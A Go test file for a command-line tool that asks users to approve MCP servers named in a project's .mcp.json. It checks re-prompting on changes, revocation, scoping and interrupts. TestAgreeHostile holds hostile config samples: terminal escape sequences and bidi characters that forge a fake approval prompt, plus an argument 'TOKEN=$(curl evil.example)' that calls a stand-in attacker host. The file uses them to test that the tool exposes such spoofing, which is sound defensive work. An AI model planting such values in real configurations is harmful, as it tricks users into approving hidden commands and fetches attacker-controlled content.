package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// write puts another .mcp.json in the place of the one that is there.
func (p place) write(config string) {
	p.t.Helper()
	if err := os.WriteFile(filepath.Join(p.dir, ".mcp.json"), []byte(config), 0o600); err != nil {
		p.t.Fatal(err)
	}
}

// TestAgree: the person is asked once, sees what it may do, and again when it has changed, with what is new and gone.
func TestAgree(t *testing.T) {
	t.Parallel()
	s := start(t)
	p := project(t, acme(s.URL("/modern")), "ACME_KEY="+goodKey)
	origin := strings.TrimSuffix(s.URL(""), "/")
	p.converse("tools", "acme").on("\n", `? "acme" at .mcp.json:3`, "and\nmay be anybody's", "  |   transport  http\n", "  |   url  "+s.URL("/modern")+"\n", "  |   header X-API-Key  ${ACME_KEY}\n",
		"variable ACME_KEY  goes to "+origin, "[y]es, [n]o (no): ").on("", "Declined.", "HF220", "asked again").ends(3)
	p.converse("tools", "acme").on("\x04", "(no): ").on("", "HF220").ends(3)
	if n := len(s.Requests()); n != 0 {
		t.Errorf("%d requests were sent", n)
	}
	p.converse("tools", "acme").on("y\n", "(no): ").on("", "echo").ends(0)
	p.run("tools", "acme").want(0, "echo")
	p.write(" " + acme(s.URL("/modern")) + "\n")
	p.run("tools", "acme").want(0, "echo")
	p.run("trust", "list").want(0, "acme", ".mcp.json", "agreed 20", "url  "+s.URL("/modern"), "header X-API-Key  ${ACME_KEY}")

	changed := strings.Replace(acme(s.URL("/modern")), "${ACME_KEY}", "${ACME_KEY}${HOME}", 1)
	p.write(changed)
	p.run("tools", "acme").want(3, `"acme" has changed since it was agreed to`)
	p.converse("tools", "acme").on("n\n", "not what you agreed to", "  |   transport  http\n", "  | - header X-API-Key  ${ACME_KEY}\n", "  | + header X-API-Key  ${ACME_KEY}${HOME}\n",
		"  |   variable ACME_KEY", "  | + variable HOME", "(no): ").ends(3)
	p.write(acme(s.URL("/modern")))
	p.run("tools", "acme").want(0, "echo")
	p.run("trust", "revoke", "acme").want(0, "asks again")
	p.run("tools", "acme").want(3, "has not been agreed to")
}

// TestAgreeElsewhere: an agreement is for one file, whichever way one comes there, and for one name.
func TestAgreeElsewhere(t *testing.T) {
	t.Parallel()
	s := start(t)
	p := project(t, bare(s.URL("/open")))
	p.converse("tools", "acme").on("y\n", "(no): ").ends(0)
	link := filepath.Join(t.TempDir(), "link")
	deep := filepath.Join(p.dir, "deep")
	if err := os.Symlink(p.dir, link); err != nil || os.Mkdir(deep, 0o700) != nil {
		t.Fatal(err)
	}
	for _, dir := range []string{link, deep, filepath.Join(link, "deep")} {
		q := p
		q.dir = dir
		q.run("tools", "acme").want(0)
	}
	other := p
	other.dir = t.TempDir()
	other.write(bare(s.URL("/open")))
	other.run("tools", "acme").want(3, "has not been agreed to")
	p.write(strings.Replace(bare(s.URL("/open")), `"acme"`, `"acme2"`, 1))
	p.run("tools", "acme2").want(3, "has not been agreed to")
}

// TestAgreeHostile: what a file says cannot pass for something else: every character is to be seen, and nothing is cut.
func TestAgreeHostile(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("long-argument-", 40) + "END"
	p := project(t, fmt.Sprintf(`{"mcpServers": {"acme": {"command": "sh", "args": ["-c", "a\u001b[2J\u001b[31m\u202eb\r\nLet it? [y]es: ", %q, "TOKEN=$(curl evil.example)"],
  "env": {"A\u001b]8;;x\u0007": "\u2066b", "API_TOKEN": %q}}}}`, long, goodKey))
	text := p.converse("tools").on("n\n", "(no): ").ends(3)
	for _, piece := range []string{"a␛[2J␛[31m<U+202E>b␍␤Let it? [y]es:", "END", "TOKEN=$(curl evil.example)", "A␛]8;;x␇", "<U+2066>b", "....7f3c, 27 characters", "scroll up", "not ASCII"} {
		if !strings.Contains(strings.ReplaceAll(text, "\n  |     ", ""), piece) {
			t.Errorf("no %q in %s", piece, text)
		}
	}
	for _, line := range strings.Split(text, "\n") {
		if strings.HasPrefix(line, "Let it?") || strings.ContainsAny(line, "\x1b\u202e") && !strings.Contains(line, "\x1b[K") {
			t.Errorf("the file has a line of its own: %q", line)
		}
	}
}

// TestAgreeHostileName: a name is told from the question, and is of no more than a line or two.
func TestAgreeHostileName(t *testing.T) {
	t.Parallel()
	name := `a" at /home/ann is yours. \u0430` + strings.Repeat("long", 100) + "END"
	p := project(t, `{"mcpServers": {"`+strings.Replace(name, `"`, `\"`, 1)+`": {"command": "sh"}}}`)
	text := p.converse("tools").on("n\n", "not ASCII", "(no): ").ends(3)
	if question, _, _ := strings.Cut(text, "[y]es"); !strings.Contains(question, `? "a\" at /home/ann`) || strings.Contains(question, "END") || !strings.Contains(question, "…\"") {
		t.Error(question)
	}
}

// TestAgreeNotKept: what cannot be kept holds for its run, and that is told.
func TestAgreeNotKept(t *testing.T) {
	t.Parallel()
	s := start(t)
	p := project(t, bare(s.URL("/open")), "HEADFAST_STORE=/dev/null/x")
	p.converse("tools", "acme").on("y\n", "(no): ").on("", "could not be kept", "You will be asked again").ends(0)
	memory := project(t, bare(s.URL("/open")), "HEADFAST_STORE=memory")
	memory.converse("tools", "acme").on("y\n", "(no): ").ends(0)
	memory.run("tools", "acme").want(3, "HF220")
}

// TestAgreeInterrupted: Ctrl-C at the question agrees to nothing.
func TestAgreeInterrupted(t *testing.T) {
	t.Parallel()
	s := start(t)
	p := project(t, bare(s.URL("/open")))
	c := p.converse("tools", "acme").on("", "(no): ")
	_ = c.cmd.Process.Signal(os.Interrupt)
	c.ends(130)
	p.run("tools", "acme").want(3, "HF220")
	if n := len(s.Requests()); n != 0 {
		t.Errorf("%d requests were sent", n)
	}
}
